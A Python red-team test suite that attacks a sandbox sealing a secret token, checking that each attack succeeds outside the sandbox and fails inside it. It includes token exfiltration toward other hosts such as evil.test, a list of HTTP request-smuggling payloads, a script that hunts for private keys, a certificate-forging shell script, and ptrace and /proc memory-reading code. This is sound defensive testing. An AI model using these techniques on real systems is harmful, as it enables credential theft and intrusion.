"""Attacks on sealed secrets: the value reaches its service alone, and nobody learns it.

Each attack runs outside as well where there it gives the value away. docs/redteam.md says which
requirement each test holds.
"""

import json
import os
import unittest

from redteam import ORDINARY, Redteam, as_user, descendants
from secret_cases import (BEARER, HOST, OTHER_URL, OTHER_VAULT, RAW_URL, RAW_VAULT, URL, VAULT,
                          SecretAttack, curl, launch, open_lab, request, sealed, spellings)

RAW = [HOST, 8443]
PLAIN = [HOST, 80]


def setUpModule():
    open_lab()


def order(text, to=RAW, **more):
    return {"to": list(to), "send": text, **more}


class Places(SecretAttack):
    """The placeholder where its capability does not let it stand."""

    def assert_refused(self, *texts, reason=None, allow=None, pieces=None):
        orders = [order(text, pieces=pieces) for text in texts]
        self.assert_value_arrives_outside(*orders)
        run, answers = self.speak_inside(*orders, allow=allow)
        self.assert_no_value_arrived()
        for text, answer in zip(texts, answers, strict=True):
            self.assertNotRegex(answer["got"], r"^HTTP/1\.1 2", f"{text!r} was not refused: {run}")
        denied = run.find(event="request", verdict="denied")
        self.assertEqual(len(denied), len(texts), run)
        for line in denied if reason else ():
            self.assertEqual(line["reason"], reason, run)
        return run

    def test_the_honest_request_arrives(self):
        """Or the refusals below would mean nothing."""
        for pieces in (None, 7, 1):
            self.clear()
            run, (answer,) = self.speak_inside(order(request(), pieces=pieces))
            self.assertTrue(answer["got"].startswith("HTTP/1.1 200"), run)
            self.assert_received(f"Authorization: Bearer {self.value}")

    def test_in_other_fields_and_names(self):
        self.assert_refused(
            request("X-Other: {T}", authorized=False), request("Cookie: a={T}", authorized=False),
            request("{T}: x", authorized=False), request("X-{T}: x", authorized=False),
            request("Proxy-Authorization: Bearer {T}", authorized=False),
            request("User-Agent: {T}"), reason=None)

    def test_in_the_target(self):
        self.assert_refused(request(target="/echo/{T}", authorized=False),
                            request(target="/echo?key={T}", authorized=False),
                            request(target="/echo?key={P}", authorized=False),
                            request(target="/echo/{B}", authorized=False),
                            reason="other-place")

    def test_in_the_method(self):
        attack = order(request(method="{T}", authorized=False))
        self.assert_value_arrives_outside(attack)
        run, (answer,) = self.speak_inside(attack)
        self.assert_no_value_arrived()
        run.assert_denied(event="request", reason="other-place")
        self.assertNotRegex(answer["got"], r"^HTTP/1\.1 2", run)

    def test_doubled(self):
        self.assert_refused(request("Authorization: Bearer {T}"),
                            request("Authorization: {T} {T}", authorized=False),
                            request("Authorization: Bearer {T}{T}", authorized=False))

    def test_wrapped(self):
        self.assert_refused(request("Authorization: Bearer {B}", authorized=False),
                            request("Authorization: Basic {B}", authorized=False),
                            request("Authorization: Bearer {P}", authorized=False),
                            request("X-Other: {B}", authorized=False), reason="other-place")

    def test_in_a_body_whole_and_split(self):
        """The head may be on its way already; the value is not."""
        texts = [request(method="POST", authorized=False, body=["{T}"]),
                 request(method="POST", authorized=False, body=["a", "{T1}", "{T2}", "b"])]
        # The sizes of chunks are those of the placeholder, which is as long as the value.
        long, half = len(self.value), len(self.value) // 2
        texts = [text.replace("3\r\n{T}", f"{long:x}\r\n{{T}}")
                 .replace("4\r\n{T1}", f"{half:x}\r\n{{T1}}")
                 .replace("4\r\n{T2}", f"{long - half:x}\r\n{{T2}}") for text in texts]
        self.assert_refused(*texts, reason="other-place")
        self.assert_refused(*texts, reason="other-place", pieces=1)

    def test_split_over_frames_of_http_2(self):
        script = (
            "import http2 from 'node:http2';\n"
            f"const session = http2.connect('{URL}');\n"
            "const stream = session.request({':method': 'POST', ':path': '/plain'});\n"
            "let status = 'none';\n"
            "stream.on('response', (fields) => { status = fields[':status']; });\n"
            "const done = () => { console.log(status); process.exit(0); };\n"
            "stream.on('error', done); stream.on('close', done); stream.resume();\n"
            "const letters = [...process.env.TOKEN];\n"
            "const next = () => letters.length ? stream.write(letters.shift(), () => "
            "setImmediate(next)) : stream.end();\n"
            "next();\n")
        command = [launch.NODE, "--input-type=module", "-e", script]
        self.outside(command, env={"NODE_EXTRA_CA_CERTS": self.lab.ca})
        self.assertIn(self.value, self.arrived())
        self.clear()
        run = self.inside(command, self.ALLOW)
        self.assertNotEqual(run.output, "200\n", run)
        self.assert_no_value_arrived()
        run.assert_denied(event="request", reason="other-place")

    def test_in_other_places_of_http_2(self):
        words = ['-H "X-Other: $TOKEN"', '-H "x-$TOKEN: y"', '-d "$TOKEN"',
                 f'{BEARER} -H "X-Other: $TOKEN"']
        commands = [f"--http2 -o /dev/null -w '%{{http_code}}\\n' {each} {URL}/plain"
                    for each in words]
        commands.append(f"--http2 -o /dev/null -w '%{{http_code}}\\n' \"{URL}/plain?$TOKEN\"")
        control = self.outside(curl(*commands))
        self.assertEqual(control.output, "200\n" * len(commands), control)
        self.clear()
        run = self.inside(curl(*commands), self.ALLOW)
        self.assertNotIn("200", run.output, run)
        self.assert_no_value_arrived()
        self.assertEqual(len(run.find(event="request", verdict="denied")), len(commands), run)


class Elsewhere(SecretAttack):
    """The placeholder on its way to somebody else."""

    def arrived_at(self, host):
        return [record["head"] for record in self.received()
                if f"host: {host}" in record["head"].lower()]

    def test_another_host_without_a_secret(self):
        """Its TLS is not ours to read: what arrives there is the placeholder, worth nothing."""
        command = curl(f"{BEARER} {OTHER_URL}/echo")
        self.outside(command)
        self.assertIn(self.value, self.arrived())
        self.clear()
        self.inside(command, self.ALLOW)
        self.assertEqual(len(self.received()), 1)
        self.assert_no_value_arrived()

    def test_another_host_with_another_secret(self):
        other = sealed(to=("other-vault.example.test:443",), name="OTHER")
        for version in ("--http1.1", "--http2"):
            run = self.inside(
                curl(f"{version} -o /dev/null -w '%{{http_code}}' {BEARER} {OTHER_URL}/echo"),
                [*self.ALLOW, other], env={"OTHER": "oth_0123456789abcdef0123456789abcdef"})
            self.assertEqual(run.output, "403", run)
            self.assertEqual(self.received(), [])
            run.assert_denied(event="request", reason="other-host")

    def test_a_redirect_is_followed_without_the_value(self):
        for version in ("--http1.1", "--http2"):
            with self.subTest(version=version):
                for target in (f"{OTHER_URL}/echo", f"http://{HOST}/echo"):
                    command = curl(f"{version} -L --location-trusted {BEARER} "
                                   f"'{URL}/redirect?to={target}'")
                    self.clear()
                    self.outside(command)
                    self.assertEqual(self.arrived().count(self.value), 2)
                    self.clear()
                    self.inside(command, self.ALLOW)
                    self.assertEqual(self.arrived().count(self.value), 1)
                    self.assertIn(self.value, self.received()[0]["head"])

    def test_a_fronted_host(self):
        """The name of TLS is the declared one; the request names another host of that server."""
        orders = [order(request(host=host)) for host in
                  ("other-vault.example.test", f"{HOST}:443", f"{HOST}.evil.test", "", HOST + "@x",
                   f"{HOST}, other-vault.example.test")]
        orders.append(order(request(target="http://other-vault.example.test/plain")))
        orders.append(order(request("Host: other-vault.example.test")))
        self.assert_value_arrives_outside(*orders)
        run, answers = self.speak_inside(*orders)
        self.assert_no_value_arrived()
        self.assertEqual(self.received(), [])
        for answer in answers:
            self.assertRegex(answer["got"], r"^HTTP/1\.1 40[03] ", run)
        self.assertGreaterEqual(len(run.find(event="request", verdict="denied")), 4, run)

    def test_a_fronted_authority_of_http_2(self):
        command = curl(f"--http2 -o /dev/null -w '%{{http_code}}' {BEARER} "
                       f"-H 'Host: other-vault.example.test' {URL}/plain")
        self.outside(command)
        self.assertIn(self.value, str(self.arrived_at("other-vault.example.test")))
        self.clear()
        run = self.inside(command, self.ALLOW)
        self.assertEqual(self.received(), [], run)
        self.assertEqual(run.output, "403")

    def test_another_server_name(self):
        """TLS that names another host of the address, on the connection of the sealed one."""
        orders = [order(request(host=name), to=[HOST, 443], tls=name)
                  for name in ("other-vault.example.test", "evil.test")]
        self.assert_value_arrives_outside(orders[0])
        run, answers = self.speak_inside(*orders)
        self.assertEqual([answer["got"] for answer in answers], ["", ""], run)
        self.assertEqual(self.received(), [])
        run.assert_denied(event="connect", host=HOST, reason="other-name")

    def test_in_plain_text(self):
        orders = [order(request(), to=PLAIN, tls=None), order(request(), to=RAW, tls=None)]
        self.assert_value_arrives_outside(orders[0])
        run, answers = self.speak_inside(*orders)
        self.assert_no_value_arrived()
        for answer in answers:
            self.assertNotRegex(answer["got"], r"^HTTP/1\.1 2", run)
        self.assertEqual(self.received(), [], "the placeholder in plain text is refused")

    def through_a_proxy(self, *words):
        proxy = '"${HTTPS_PROXY#http://}"'
        return curl(*(f"-o /dev/null -w '%{{http_code}}\\n' {BEARER} {each.format(proxy=proxy)}"
                      for each in words))

    def test_through_connect_and_socks(self):
        run = self.inside(
            self.through_a_proxy(f"-p -x http://{{proxy}} {URL}/plain",
                                 f"--socks5-hostname {{proxy}} {URL}/plain",
                                 f"-p -x http://{{proxy}} {OTHER_URL}/plain",
                                 f"--socks5-hostname {{proxy}} {OTHER_URL}/plain",
                                 "-p -x http://{proxy} https://evil.test/",
                                 "--socks5-hostname {proxy} https://evil.test/"),
            self.ALLOW, options=["--proxy-env"])
        self.assertEqual(run.output.split(), ["200"] * 4 + ["000"] * 2, run)
        here, there = self.arrived_at(HOST), self.arrived_at("other-vault.example.test")
        self.assertEqual([self.value in head for head in here], [True] * 2)
        self.assertEqual([self.value in head for head in there], [False] * 2)

    def test_through_a_plain_proxy(self):
        run = self.inside(
            self.through_a_proxy(f"-x http://{{proxy}} http://{HOST}/plain",
                                 f"--socks5-hostname {{proxy}} http://{HOST}/plain"),
            self.ALLOW, options=["--proxy-env"])
        self.assertNotIn("200", run.output, run)
        self.assertEqual(self.received(), [])


class Reflection(SecretAttack):
    """The service says what it was told."""

    def test_what_comes_back_is_overwritten(self):
        self.value += "+/=&%"
        for place in (f"--http1.1 {URL}", f"--http2 {URL}", RAW_URL):
            for path in ("/echo", "/base64", "/percent", "/split", "/header"):
                with self.subTest(place=place, path=path):
                    command = curl(f"-i {BEARER} {place}{path}")
                    control = self.outside(command)
                    self.assertTrue(any(spelling in control.output
                                        for spelling in spellings(self.value)), control)
                    self.clear()
                    run = self.inside(command, self.ALLOW)  # which looks for every spelling
                    self.assertEqual(run.code, 0, run)
                    self.assert_received(self.value)
                    run.assert_line(reason="scrubbed")


class Smuggling(SecretAttack):
    """Bytes that two readers read differently, on a connection that is given values."""

    HIDDEN = ("GET /smuggled HTTP/1.1\r\nHost: vault.example.test\r\n"
              "Authorization: Bearer {T}\r\n\r\n")

    def attacks(self):
        head = f"POST /plain HTTP/1.1\r\nHost: {HOST}\r\n"
        end = "\r\n\r\n"
        chunked, length = "Transfer-Encoding: chunked\r\n", "Content-Length: 5\r\n"
        return [
            head + "Content-Length: 4\r\n" + chunked + "\r\n0\r\n\r\n" + self.HIDDEN,
            head + chunked + "Content-Length: 4" + end + "0\r\n\r\n" + self.HIDDEN,
            head + length + "Content-Length: 0" + end + "12345" + self.HIDDEN,
            head + "Content-Length: 5, 0" + end + "12345" + self.HIDDEN,
            head + "Content-Length: +5" + end + "12345" + self.HIDDEN,
            head + "Content-Length: 0x5" + end + "12345" + self.HIDDEN,
            head + "Content-Length : 5" + end + "12345" + self.HIDDEN,
            head + "Content-Length: 5\n\n12345" + self.HIDDEN,
            head.replace("\r\n", "\n") + "\n" + self.HIDDEN,
            head + "X: a\r\n " + length + "\r\n12345" + self.HIDDEN,
            head + "X: a\r\n\tTransfer-Encoding: chunked" + end + "0\r\n\r\n" + self.HIDDEN,
            head + "Transfer-Encoding: xchunked" + end + "0\r\n\r\n" + self.HIDDEN,
            head + "Transfer-Encoding: chunked, identity" + end + "0\r\n\r\n" + self.HIDDEN,
            head + "Transfer-Encoding:\x0bchunked" + end + "0\r\n\r\n" + self.HIDDEN,
            head + chunked + chunked + "\r\n0\r\n\r\n" + self.HIDDEN,
            head + chunked + "\r\n5;a\rb\r\n12345\r\n0\r\n\r\n" + self.HIDDEN,
            head + chunked + "\r\n5\n12345\r\n0\r\n\r\n" + self.HIDDEN,
            head + chunked + "\r\n5\r\n12345XX0\r\n\r\n" + self.HIDDEN,
            head + chunked + "\r\n-5\r\n12345\r\n0\r\n\r\n" + self.HIDDEN,
            head + chunked + "\r\nFFFFFFFFFFFFFFFFF\r\n12345\r\n0\r\n\r\n" + self.HIDDEN,
            head + "X: a\0b" + end + self.HIDDEN, head + "X: a\rb" + end + self.HIDDEN,
            f"POST /plain HTTP/1.1\r\n Host: {HOST}\r\n\r\n" + self.HIDDEN,
            f"POST  /plain HTTP/1.1\r\nHost: {HOST}\r\n\r\n" + self.HIDDEN,
            f"POST /plain HTTP/1.0\r\nHost: {HOST}\r\n{chunked}\r\n0\r\n\r\n" + self.HIDDEN,
            f"POST /plain HTTP/2.0\r\nHost: {HOST}\r\n\r\n" + self.HIDDEN,
        ]

    def test_nothing_ambiguous_is_passed_on(self):
        orders = [order(text, seconds=2) for text in self.attacks()]
        run, (honest, *answers) = self.speak_inside(order(request(authorized=False)), *orders)
        self.assertTrue(honest["got"].startswith("HTTP/1.1 200"), run)
        self.assertNotIn("/smuggled", self.arrived(), run)
        self.assert_no_value_arrived()
        for attack, answer in zip(self.attacks(), answers, strict=True):
            self.assertNotRegex(answer["got"], r"HTTP/1\.1 2", f"{attack!r} was answered")

    def test_a_second_request_is_judged_like_the_first(self):
        first = f"POST /plain HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 5\r\n\r\n12345"
        bad = self.HIDDEN.replace("Host: vault", "Host: other-vault")
        run, (answer,) = self.speak_inside(order(first + bad))
        self.assertEqual(answer["got"].count("HTTP/1.1 200"), 1, run)
        self.assertNotIn("/smuggled", self.arrived())
        self.assert_no_value_arrived()


class Authority(SecretAttack):
    """The sandbox's certificate authority, of which only the certificate is inside."""

    SEARCH = r"""
import json, os, re
found = []
for top in ("/etc", "/tmp", "/run", "/var", "/usr/share/ca-certificates", os.environ["HOME"],
            "/dev/shm", "/etc/capgate"):
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 23:
                    with open(path, "rb") as file:
                        if re.search(rb"-----BEGIN [A-Z ]*PRIVATE KEY", file.read()):
                            found.append(path)
            except OSError: pass
bundle = open(os.environ["SSL_CERT_FILE"]).read()
last = "-----BEGIN CERTIFICATE" + bundle.split("-----BEGIN CERTIFICATE")[-1]
print(json.dumps({"keys": found, "authority": last}))
"""
    # Forges a leaf in the authority's name with a key of its own, and asks who believes it.
    FORGE = r"""
set -e
cd "$1"
csplit -s -z -f part- "$SSL_CERT_FILE" '/-----BEGIN CERTIFICATE/' '{*}'
anchor=$(ls part-* | tail -1)
name=$(openssl x509 -in $anchor -noout -subject -nameopt multiline |
       sed -n 's/ *commonName *= //p')
new="openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes"
$new -keyout own.key -out own.pem -subj "/CN=$name" \
  -addext basicConstraints=critical,CA:TRUE 2>/dev/null
$new -keyout leaf.key -out leaf.pem -subj /CN=x -CA own.pem -CAkey own.key \
  -addext subjectAltName=DNS:vault.example.test,DNS:evil.test 2>/dev/null
openssl verify -CAfile own.pem leaf.pem >/dev/null && echo forged
openssl verify -CAfile "$SSL_CERT_FILE" leaf.pem >/dev/null 2>&1 && echo believed || echo refused
"""

    def test_no_key_is_inside_and_the_authority_is_narrow(self):
        run = self.inside([launch.PYTHON, "-I", "-c", self.SEARCH], self.ALLOW)
        found = json.loads(run.output)
        self.assertEqual(found["keys"], [])
        text = self.outside(["/usr/bin/openssl", "x509", "-noout", "-text"],
                            stdin=found["authority"].encode()).output
        self.assertRegex(text, r"X509v3 Name Constraints: critical\s+Permitted:")
        permitted, _, excluded = text.partition("Permitted:")[2].partition("Excluded:")
        # Of mail and URI one that does not exist: what is not named at all would be permitted.
        self.assertEqual(set(permitted.split()), {f"DNS:{HOST}", "URI:capgate.invalid",
                                                  "email:nobody@capgate.invalid"})
        for names in ("IP:0.0.0.0/0.0.0.0", "IP:0:0:0:0:0:0:0:0/0:0:0:0:0:0:0:0"):
            self.assertIn(names, excluded)

    def test_a_forged_certificate_is_not_believed(self):
        programs = ("openssl", "csplit", "sed", "tail", "ls")
        run = self.inside(["/bin/sh", "-c", self.FORGE, "sh", self.work],
                          [*self.ALLOW, *(f"exec:spawn:{name}" for name in programs),
                           f"fs:write:{self.work}/**"])
        self.assertEqual(run.output, "forged\nrefused\n", run)

    def test_the_broker_vouches_for_no_other_name(self):
        """A leaf is made for the endpoint of a rule, never for what a client asks for."""
        orders = [{**order(request(), to=[HOST, 443]), "tls": name}
                  for name in ("evil.test", "other-vault.example.test", "x." + HOST)]
        run, (honest, *answers) = self.speak_inside(order(request(), to=[HOST, 443]), *orders)
        self.assertTrue(honest["got"].startswith("HTTP/1.1 200"), run)
        for answer in answers:
            self.assertEqual(answer["got"], "", run)
        self.assertEqual(len(self.received()), 1)


class Memory(Redteam):
    """A process of the same user that looks into capgate and its broker while they hold a value.
    Not in the lab: whoever made its namespaces rules over all that runs in them."""

    LOOK = r"""
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def failed(result): return os.strerror(ctypes.get_errno()) if result < 0 else "open"
def read(path):
    with open(path, "rb") as file: return file.read(64)
def attempt(act):
    try: return act() or "open"
    except OSError as error: return error.strerror
def seize(pid):
    result = failed(libc.ptrace(0x4206, pid, None, None))
    return result
def peek(pid):
    buffer = ctypes.create_string_buffer(8)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 8)
    try:
        with open("/proc/%d/maps" % pid) as maps: at = int(maps.readline().split("-")[0], 16)
    except OSError: at = 0x400000
    there = Vector(at, 8)
    return failed(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
def getfd(pid):
    pidfd = os.pidfd_open(pid)
    return failed(libc.syscall(438, pidfd, 0, 0))
def look(pid):
    return {"seize": attempt(lambda: seize(pid)), "peek": attempt(lambda: peek(pid)),
            "getfd": attempt(lambda: getfd(pid)),
            "fd": attempt(lambda: os.listdir("/proc/%d/fd" % pid) and None),
            **{name: attempt(lambda: read("/proc/%d/%s" % (pid, name)) and None)
               for name in ("environ", "maps", "auxv")},
            "mem": attempt(lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDONLY)))}
print(json.dumps([look(int(pid)) for pid in sys.argv[1:]]))
"""
    VALUE = "tok_" + "0123456789abcdef" * 3

    def start_sealed(self, command):
        process = self.start(self.sandboxed(command, [VAULT, sealed()]),
                             env={"TOKEN": self.VALUE})
        self.assertEqual(process.stdout.readline(), b"ready\n")
        return process

    def look(self, *pids):
        done = self.finish(as_user([launch.PYTHON, "-I", "-c", self.LOOK, *map(str, pids)],
                                   ORDINARY))
        self.assertEqual(done.returncode, 0, done.stderr)
        return json.loads(done.stdout)

    def holders(self, process):
        """capgate and its brokers."""
        found = {}
        for pid in descendants(process.pid):
            with open(f"/proc/{pid}/comm", encoding="utf-8") as file:
                name = file.read().strip()
            if name in ("capgate", "capgate-broker-"):  # the kernel keeps 15 letters
                found[pid] = name
        self.assertIn("capgate-broker-", found.values())
        self.assertIn("capgate", found.values())
        return found

    def test_a_process_of_the_same_user_sees_nothing(self):
        plain = self.start(as_user(["/bin/sh", "-c", "echo ready; read -r _"], ORDINARY))
        self.assertEqual(plain.stdout.readline(), b"ready\n")
        (control,) = self.look(plain.pid)
        self.assertEqual(set(control.values()), {"open"}, control)
        process = self.start_sealed(["/bin/sh", "-c", "echo ready; read -r _"])
        holders = self.holders(process)
        for (pid, name), result in zip(holders.items(), self.look(*holders), strict=True):
            with self.subTest(process=name):
                self.assertNotIn("open", result.values(), result)
                self.assertEqual(os.stat(f"/proc/{pid}/mem").st_uid, 0, "dumpable")

    def crash(self, pid):
        self.finish(as_user(["/usr/bin/kill", "-SEGV", str(pid)], ORDINARY))

    def test_no_core_is_left_of_who_is_made_to_crash(self):
        """By another process of the user, where a core file of any size may be written."""
        plain = self.start(as_user(["/usr/bin/prlimit", "--core=unlimited", "/bin/sh", "-c",
                                    "echo ready; read -r _"], ORDINARY), cwd=self.work)
        self.assertEqual(plain.stdout.readline(), b"ready\n")
        self.crash(plain.pid)
        plain.wait(launch.SECONDS)
        if not os.listdir(self.work):
            self.not_testable("cores are not written to the current directory")
        for core in os.listdir(self.work):
            os.unlink(os.path.join(self.work, core))

        words = self.sandboxed(["/bin/sh", "-c", "echo ready; read -r _"], [VAULT, sealed()])
        process = self.start(["/usr/bin/prlimit", "--core=unlimited", *words], cwd=self.work,
                             env={"TOKEN": self.VALUE})
        self.assertEqual(process.stdout.readline(), b"ready\n")
        holders = self.holders(process)
        for pid in sorted(holders, key=holders.get, reverse=True):  # the broker first
            self.crash(pid)
        process.wait(launch.SECONDS)
        for at, _, names in os.walk(self.tree.root):
            for name in names:
                with open(os.path.join(at, name), "rb") as file:
                    self.assertNotIn(self.VALUE.encode(), file.read(), name)
        self.assertEqual(os.listdir(self.work), [])

    def test_a_sandboxed_process_sees_nobody(self):
        """Neither by the host's numbers nor by those of its own namespace."""
        script = self.LOOK.replace("sys.argv[1:]", "sys.stdin.readline().split()").replace(
            "def failed", "print('ready', flush=True)\ndef failed", 1)
        process = self.start_sealed([launch.PYTHON, "-I", "-c", script])
        pids = [*self.holders(process), 1]
        process.stdin.write((" ".join(map(str, pids)) + "\n").encode())
        process.stdin.flush()
        results = json.loads(process.stdout.readline())
        for pid, result in zip(pids, results, strict=True):
            self.assertNotIn("open", result.values(), (pid, result))


if __name__ == "__main__":
    unittest.main()
